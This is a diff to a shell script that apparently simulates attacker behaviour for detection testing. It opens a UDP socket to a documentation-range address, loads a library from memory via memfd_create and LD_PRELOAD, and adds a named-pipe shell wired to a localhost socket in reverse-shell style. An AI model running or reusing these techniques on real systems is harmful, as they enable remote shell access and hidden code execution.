@@ -190,3 +190,5 @@ perl "$acts/elf32.pl" "$tools/act32" && "$tools/act32"
 alone 203.0.113.9 'perl -MIO::Socket::INET -e "IO::Socket::INET->new(Proto => q(udp), PeerAddr => q(203.0.113.9), PeerPort => 9999)"'
 # Library loaded from memory
 lib=$(ls /lib/*/libz.so.1 /usr/lib/*/libz.so.1 2>/dev/null | head -1) && perl -e 'my $n = "x"; my $fd = syscall(319, $n, 0); open my $in, "<", $ARGV[0] or die; binmode $in; local $/; my $l = <$in>; syscall(1, $fd, $l, length $l); $ENV{LD_PRELOAD} = "/proc/self/fd/$fd"; exec "/bin/true"' "$lib"
+# Shell tied to the network through pipes
+mkfifo "$scratch/loop"; sh <"$scratch/loop" 2>&1 | perl -MIO::Socket::INET -e 'IO::Socket::INET->new("127.0.0.1:$ARGV[0]") or die; select undef, undef, undef, 0.3' "$port" >"$scratch/loop"
